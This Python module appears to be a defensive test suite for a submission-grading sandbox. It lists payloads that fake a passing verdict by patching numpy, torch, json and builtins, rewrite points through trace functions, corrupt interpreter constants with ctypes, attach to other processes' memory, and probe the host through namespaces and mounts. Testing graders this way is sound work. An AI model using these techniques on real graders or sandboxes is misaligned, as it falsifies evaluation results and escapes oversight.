"""Attacks on the process that runs a submission, and on the one that it came from."""

from attacks.handin import Attack

_PATCHED = """
import json

import numpy
import torch

zeros = lambda *given, **named: numpy.zeros((3, 4), dtype="float32")
numpy.asarray = numpy.array = numpy.ascontiguousarray = zeros
torch.Tensor.numpy = torch.Tensor.detach = zeros
torch.from_numpy = lambda array: torch.zeros(3, 4)
json.dumps = lambda *given, **named: '{"verdict": "pass", "points": $POINTS, "arrays": []}'
"""

_BUILTINS = """
import builtins

builtins.isinstance = lambda one, kinds: True
builtins.len = lambda one: 0
builtins.callable = builtins.all = builtins.any = lambda one: True
builtins.print = builtins.open = builtins.__import__ = lambda *given, **named: None
builtins.zip = lambda *given, **named: ()
builtins.abs = builtins.max = builtins.min = builtins.sum = lambda *given, **named: 0
"""

_TRACED = """
import sys
import threading


def look(frame, event, value):
    inside = frame.f_locals
    for name in ("right", "rights", "expected", "oracle", "seed"):
        if name in inside and "softlookup" in frame.f_code.co_filename:
            print("$LEAK", name)
    if frame.f_code.co_name in ("_outcome", "first_difference", "is_right") and event == "return":
        inside["points"] = $POINTS
    return look


sys.settrace(look)
sys.setprofile(look)
threading.settrace(look)
"""

_MEMORY_WRITES = """
import ctypes
import sys

import numpy as np

# Lets the float 0.0 that is compared with be something else, and False be True.
for value, other in ((0.0, 1e9), (1e-5, 1e30), (1e-10, 1e30)):
    ctypes.memmove(id(value) + 16, (ctypes.c_double * 1)(other), 8)
ctypes.memmove(id(False) + 24, id(True) + 24, 4)
"""

_OTHERS_MEMORY = """
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
for number in {os.getppid(), 1, 2, 3, *(int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*"))} - {os.getpid(), 0}:
    if libc.ptrace(16, number, 0, 0) == 0:
        print("$LEAK attached to process", number)
    libc.prlimit(number, 7, (ctypes.c_uint64 * 2)(0, 0), None)
    try:
        with open(f"/proc/{number}/mem", "rb") as memory:
            print("$LEAK the memory of process", number)
    except OSError:
        pass
libc.prctl(1, 0, 0, 0, 0)
"""

_ROOMS = """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    print(hex(flag), libc.unshare(flag))
print(libc.mount(b"proc", b"/proc", b"proc", 0, None), libc.umount2(b"/proc", 2), libc.umount2(b"/tmp", 2))
print(libc.mount(b"none", b"/", None, 0x20 | 0x1000, None))
for attempt in (
    lambda: os.chroot("/"),
    lambda: os.setuid(0),
    lambda: os.nice(-20),
    lambda: os.mknod("/tmp/sda", 0o60666, 2048),
):
    try:
        attempt()
    except OSError as error:
        print(error)
for folder in ("/proc/1/root", "/proc/self/root", "/root", "/home", "/mnt", "/sys/fs/cgroup", "/dev"):
    try:
        print(folder, len(os.listdir(folder)))
    except OSError as error:
        print(error)
"""

_SUBINTERPRETER = """
try:
    import _xxsubinterpreters as interpreters

    other = interpreters.create()
    interpreters.run_string(other, "import os, time; open('/tmp/$TRACE-other', 'w').write('x')")
except BaseException as error:
    print(type(error).__name__, error)
"""

ATTACKS = (
    Attack("patched-libraries", 0, "replaces asarray, Tensor.numpy and json.dumps", _PATCHED, last=True),
    Attack("patched-builtins", 0, "replaces isinstance, len, zip, open and their like", _BUILTINS, last=True),
    Attack("traced", 0, "a trace function looks into every frame and changes points", _TRACED),
    Attack("memory-writes", 0, "writes other numbers into the interpreter's memory", _MEMORY_WRITES, last=True),
    Attack("others-memory", 0, "attaches to other processes and reads their memory", _OTHERS_MEMORY),
    Attack("rooms", 0, "makes namespaces, mounts and unmounts, looks into the host's folders", _ROOMS),
    Attack("subinterpreter", 0, "runs code in another interpreter of the same process", _SUBINTERPRETER, last=True),
)
